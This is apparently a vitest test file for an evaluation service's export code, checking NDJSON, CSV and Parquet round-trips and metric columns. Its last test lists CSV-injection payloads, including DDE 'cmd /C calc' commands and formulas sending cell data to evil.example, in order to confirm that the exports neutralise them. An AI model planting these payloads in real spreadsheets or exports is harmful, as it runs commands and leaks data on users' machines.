import { JsonText, StoredJsonText } from '@assay/contracts/payload';
import { inChunks } from '@assay/runtime/http/chunks';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { parquetMetadata, parquetRead } from 'hyparquet';
import { describe, expect, test } from 'vitest';
import { csvOf } from '../src/domain/export/csv.ts';
import { createLines } from '../src/domain/export/lines.ts';
import { parquetOf } from '../src/domain/export/parquet.ts';
import { encodeParquet } from '../src/domain/export/parquet-encoding.ts';
import { tableOf } from '../src/domain/export/table.ts';
import type { ExportedRecord } from '../src/store/export.ts';

const recordId = '00000000-0000-7000-8000-000000000001';

const metricOf = (change: object = {}) => ({
  metricVersionId: 'v1',
  metricId: 'm1',
  name: 'accuracy',
  evalType: 'human' as const,
  outputType: 'boolean' as const,
  passingThreshold: null,
  isScoredByService: false,
  evalModelName: null,
  annotators: 1,
  ...change,
});
const metrics = [
  metricOf(),
  metricOf({ metricVersionId: 'v2', name: 'clarity', outputType: 'int' }),
  metricOf({ metricVersionId: 'v3', name: 'closeness', outputType: 'float' }),
];

const scoreOf = (metricVersionId: string, value: boolean | number | null, more: object = {}) => ({
  metricVersionId,
  userId: 'u1',
  text: JSON.stringify({ value, ...more }),
  value,
  source: 'human' as const,
  createdAt: new Date(0),
});

const recordOf = (change: Partial<ExportedRecord> = {}): ExportedRecord => ({
  id: recordId,
  runId: recordId,
  testcaseId: null,
  createdAt: new Date(0),
  clientId: undefined,
  otelLinkId: undefined,
  sessionId: undefined,
  tags: [],
  awaited: [],
  scores: [],
  error: undefined,
  systemAttempts: undefined,
  notes: undefined,
  metrics: undefined,
  metadata: undefined,
  inputs: JsonText.of({}),
  expected: JsonText.of({}),
  outputs: JsonText.of({}),
  ...change,
});

async function* inBatches(records: ExportedRecord[]) {
  for (let from = 0; from < records.length; from += 3) yield records.slice(from, from + 3);
}

async function bytesOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = [];
  for await (const piece of pieces) all.push(piece);
  return Buffer.concat(all);
}

const ndjsonOf = (records: ExportedRecord[]) =>
  bytesOf(inChunks(createLines()(inBatches(records))));
const cellsOf = async (records: ExportedRecord[], of = metrics) =>
  parse(await bytesOf(inChunks(csvOf(tableOf(of), inBatches(records)))), {
    record_delimiter: '\n',
  }) as string[][];

/** What another thread would be given and give back. */
const encode = async (task: Parameters<typeof encodeParquet>[0]) =>
  structuredClone(encodeParquet(structuredClone(task)));

async function parquetFileOf(records: ExportedRecord[], of = metrics): Promise<ArrayBuffer> {
  return new Uint8Array(await bytesOf(parquetOf(tableOf(of), inBatches(records), encode))).buffer;
}

async function rowsOf(file: ArrayBuffer): Promise<unknown[][]> {
  let rows: unknown[][] = [];
  // The reader's own decoder takes a byte order mark away.
  const parsers = {
    stringFromBytes: (bytes: Uint8Array | undefined) => bytes && Buffer.from(bytes).toString(),
  };
  await parquetRead({
    file,
    parsers,
    rowFormat: 'array',
    onComplete: (read) => (rows = read as unknown[][]),
  });
  return rows;
}

const text = fc.oneof(
  fc.string({ unit: 'binary', minLength: 1 }).filter((value) => value.isWellFormed()),
  fc.constantFrom(
    '=1+1',
    '+1',
    '-1',
    '@x',
    '\t=1',
    '\r',
    '\n=1',
    "'=1",
    ' a ',
    'a\r\nb',
    '"',
    ',',
    '\u0000',
    '__proto__',
    '\uff1d1',
    '\ufeffa',
  ),
);
const given = fc.option(text, { nil: undefined });
const object = fc.oneof(
  fc.dictionary(
    fc.oneof(fc.string(), fc.constantFrom('__proto__', 'toString', '$where', 'a.b')),
    fc.jsonValue(),
  ),
  fc.constant({}),
);
/**
 * Payloads as clients send them, on one line or on several, inside the record or beside it in
 * chunks.
 */
const payload = fc
  .tuple(object, fc.constantFrom(undefined, 2, '\t'), fc.boolean())
  .map(([value, indent, isChunked]) => {
    const bytes = Buffer.from(JSON.stringify(value, null, indent).replaceAll('\n', '\r\n'));
    const half = bytes.length >> 1;
    async function* chunks() {
      yield* [bytes.subarray(0, half), bytes.subarray(half)];
    }
    const kept = isChunked ? new StoredJsonText(bytes.length, chunks) : new JsonText(bytes);
    return { kept, sent: bytes.toString(), onOneLine: bytes.toString().replaceAll('\r\n', '') };
  });
const score = (metricVersionId: string, value: fc.Arbitrary<boolean | number>) =>
  fc.option(
    fc
      .tuple(fc.option(value), fc.option(fc.string({ unit: 'binary' })))
      .map(([value, reasoning]) => ({
        metricVersionId,
        value,
        reasoning: reasoning?.toWellFormed() ?? null,
        kept: scoreOf(metricVersionId, value, reasoning === null ? {} : { reasoning }),
      })),
  );
const arbitrary = fc.record({
  testcaseId: fc.option(fc.uuid()),
  createdAt: fc.date({ noInvalidDate: true, min: new Date(0), max: new Date('2100-01-01') }),
  clientId: given,
  otelLinkId: given,
  sessionId: given,
  tags: fc.array(text, { maxLength: 3 }),
  payloads: fc.tuple(payload, payload, payload),
  scores: fc.tuple(
    score('v1', fc.boolean()),
    score('v2', fc.integer({ min: 1, max: 5 })),
    score('v3', fc.double({ min: 0, max: 1, noNaN: true })),
  ),
});
type Arbitrary = typeof arbitrary extends fc.Arbitrary<infer Value> ? Value : never;

const recordFrom = ({
  payloads: [inputs, expected, outputs],
  scores,
  ...rest
}: Arbitrary): ExportedRecord =>
  recordOf({
    ...rest,
    inputs: inputs.kept,
    expected: expected.kept,
    outputs: outputs.kept,
    scores: scores.flatMap((score) => (score ? [score.kept] : [])),
  });

/** Text before which an apostrophe is put. */
const isFormula = (value: string) =>
  /^([\s\0\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n])/.test(value);
const asCell = (value: string | null | undefined) =>
  value == null ? '' : isFormula(value.replace(/^'+/, '')) ? `'${value}` : value;

describe('every value comes back as it was', () => {
  test('in NDJSON: a line a record, payloads and scores as they were sent', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(arbitrary, { maxLength: 10 }), async (values) => {
        const lines = (await ndjsonOf(values.map(recordFrom))).toString().split('\n');
        expect(lines.pop()).toBe('');
        expect(lines).toHaveLength(values.length);
        for (const [
          index,
          { payloads, scores, testcaseId, createdAt, ...rest },
        ] of values.entries()) {
          const [inputs, expected, outputs] = payloads.map(({ onOneLine }) => onOneLine);
          expect(lines[index]).toContain(
            `"inputs":${inputs},"expected":${expected},"outputs":${outputs},"scores":[`,
          );
          const read = JSON.parse(lines[index]!);
          expect(read).toMatchObject({
            ...JSON.parse(JSON.stringify(rest)),
            createdAt: createdAt.toISOString(),
          });
          expect(read.testcaseId).toBe(testcaseId ?? undefined);
          for (const key of ['clientId', 'otelLinkId', 'sessionId'] as const)
            expect(key in read).toBe(rest[key] !== undefined);
          expect(read.scores.map(({ score }: { score: unknown }) => score)).toEqual(
            scores.flatMap((score) => (score ? [JSON.parse(score.kept.text)] : [])),
          );
        }
      }),
    );
  });

  test('in CSV, where text that a spreadsheet would run has an apostrophe before it', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(arbitrary, { maxLength: 10 }), async (values) => {
        const [, ...rows] = await cellsOf(values.map(recordFrom));
        expect(rows).toEqual(
          values.map(({ payloads, scores, ...rest }) => [
            recordId,
            rest.testcaseId ?? '',
            rest.createdAt.toISOString(),
            ...[rest.clientId, rest.otelLinkId, rest.sessionId].map(asCell),
            JSON.stringify(rest.tags),
            ...payloads.map(({ onOneLine }) => onOneLine),
            ...scores.flatMap((score) => [String(score?.value ?? ''), asCell(score?.reasoning)]),
            ...Array(7).fill(''),
          ]),
        );
      }),
    );
  });

  test('in Parquet, in types of its own', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(arbitrary, { maxLength: 40 }), async (values) => {
        const rows = await rowsOf(await parquetFileOf(values.map(recordFrom)));
        expect(rows).toEqual(
          values.map(({ payloads, scores, ...rest }) => [
            recordId,
            rest.testcaseId,
            rest.createdAt,
            ...[rest.clientId, rest.otelLinkId, rest.sessionId].map((value) => value ?? null),
            JSON.stringify(rest.tags),
            ...payloads.map(({ sent }) => sent),
            ...scores.flatMap((score) => [score?.value ?? null, score?.reasoning ?? null]),
            ...Array(7).fill(null),
          ]),
        );
      }),
    );
  });
});

describe('a Parquet file', () => {
  const typesOf = (file: ArrayBuffer) =>
    parquetMetadata(file)
      .schema.slice(1)
      .map(({ name, type, converted_type }) => [name, converted_type ?? type]);

  test('has its types also without a row', async () => {
    const file = await parquetFileOf([]);
    expect(typesOf(file)).toEqual([
      ['id', 'UTF8'],
      ['testcaseId', 'UTF8'],
      ['createdAt', 'TIMESTAMP_MILLIS'],
      ['clientId', 'UTF8'],
      ['otelLinkId', 'UTF8'],
      ['sessionId', 'UTF8'],
      ['tags', 'UTF8'],
      ['inputs', 'UTF8'],
      ['expected', 'UTF8'],
      ['outputs', 'UTF8'],
      ['accuracy', 'BOOLEAN'],
      ['accuracy reasoning', 'UTF8'],
      ['clarity', 'INT32'],
      ['clarity reasoning', 'UTF8'],
      ['closeness', 'DOUBLE'],
      ['closeness reasoning', 'UTF8'],
      ['latencyMs', 'DOUBLE'],
      ['inputTokens', 'INT32'],
      ['outputTokens', 'INT32'],
      ['costUsd', 'DOUBLE'],
      ['metadata', 'UTF8'],
      ['error_name', 'UTF8'],
      ['error_message', 'UTF8'],
    ]);
    expect(parquetMetadata(file).num_rows).toBe(0n);
  });

  test('is cut into row groups by bytes and by rows, and says of each what can be selected by', async () => {
    const large = (index: number) =>
      recordOf({
        createdAt: new Date(index),
        inputs: JsonText.of({ text: 'x'.repeat(1.4 * 1024 * 1024) }),
      });
    const records = [
      ...Array.from({ length: 3 }, (_, index) => large(index)),
      ...Array.from({ length: 20_001 }, () => recordOf()),
    ];
    const { row_groups } = parquetMetadata(await parquetFileOf(records));
    expect(row_groups.map(({ num_rows }) => Number(num_rows))).toEqual([2, 20_000, 2]);
    expect(row_groups[0]!.columns[2]!.meta_data!.statistics).toMatchObject({
      min_value: new Date(0),
      max_value: new Date(1),
    });
  });
});

describe('columns of metrics', () => {
  const headerOf = async (names: string[]) =>
    (
      await cellsOf(
        [],
        names.map((name) => metricOf({ name })),
      )
    )[0]!.slice(10, -7);

  test('have unique names, whatever metrics are called and how many versions of one there are', async () => {
    expect(
      await headerOf(['accuracy', 'accuracy', 'Accuracy', 'accuracy reasoning', 'tags', '=1']),
    ).toEqual([
      'accuracy',
      'accuracy reasoning',
      'accuracy (2)',
      'accuracy (2) reasoning',
      'Accuracy (3)',
      'Accuracy (3) reasoning',
      'accuracy reasoning (2)',
      'accuracy reasoning (2) reasoning',
      'tags (2)',
      'tags (2) reasoning',
      "'=1",
      "'=1 reasoning",
    ]);
  });

  const resultsOf = async (scores: ExportedRecord['scores'], awaited: string[] = []) =>
    (await cellsOf([recordOf({ scores, awaited })]))[1]!.slice(10, 14);

  test('show what several people come to, when the last of them has scored, with all their reasons', async () => {
    const scores = [
      scoreOf('v2', 2, { reasoning: 'short' }),
      { ...scoreOf('v2', 5, { reasoning: 'clear' }), userId: 'u2' },
      { ...scoreOf('v2', 4), userId: 'u3' },
    ];
    expect(await resultsOf(scores)).toEqual(['', '', '4', 'short\nclear']);
    expect(await resultsOf(scores, ['v2'])).toEqual(['', '', '', 'short\nclear']);
  });

  test('are empty where a score fits no value, was not given yet, or is of another metric; a reasoning that is no text is left out', async () => {
    expect(
      await resultsOf([
        scoreOf('v1', null, { reasoning: 'none' }),
        scoreOf('v2', 3, { reasoning: { a: 1 } }),
      ]),
    ).toEqual(['', 'none', '3', '']);
    expect(
      await resultsOf([
        { ...scoreOf('v1', null), text: '{}', isPending: true },
        scoreOf('v9', true),
      ]),
    ).toEqual(['', '', '', '']);
  });
});

/**
 * OWASP CSV Injection, and PayloadsAllTheThings: what spreadsheets run, in each of the cells that a
 * client or a judge writes.
 */
test.each([
  "=cmd|' /C calc'!A0",
  '=1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '%0A-3+3+cmd|',
  "\t=cmd|' /C calc'!A0",
  "\r=cmd|' /C calc'!A0",
  "\n=cmd|' /C calc'!A0",
  "\r\n=cmd|' /C calc'!A0",
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff201+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\u000b=1+1',
  '\u2028=1+1',
  '","=1+1',
  'a"\n"=1+1',
])('a spreadsheet runs nothing of a run that it opens: %j', async (payload) => {
  const scores = [scoreOf('v1', true, { reasoning: payload })];
  const record = recordOf({
    clientId: payload,
    sessionId: payload,
    otelLinkId: payload,
    tags: [payload],
    scores,
  });
  const rows = await cellsOf([record], [metricOf({ name: payload })]);
  expect(rows.map((cells) => cells.length)).toEqual([19, 19]);
  for (const cell of rows.flat()) expect(isFormula(cell)).toBe(false);
  expect(rows[1]!.filter((cell) => cell.replace(/^'/, '') === payload)).toHaveLength(4);
});

test('a number below nought is no formula, and stays a number', async () => {
  const rows = await cellsOf([recordOf({ scores: [scoreOf('v2', -1)] })]);
  expect(rows[1]).toContain('-1');
});
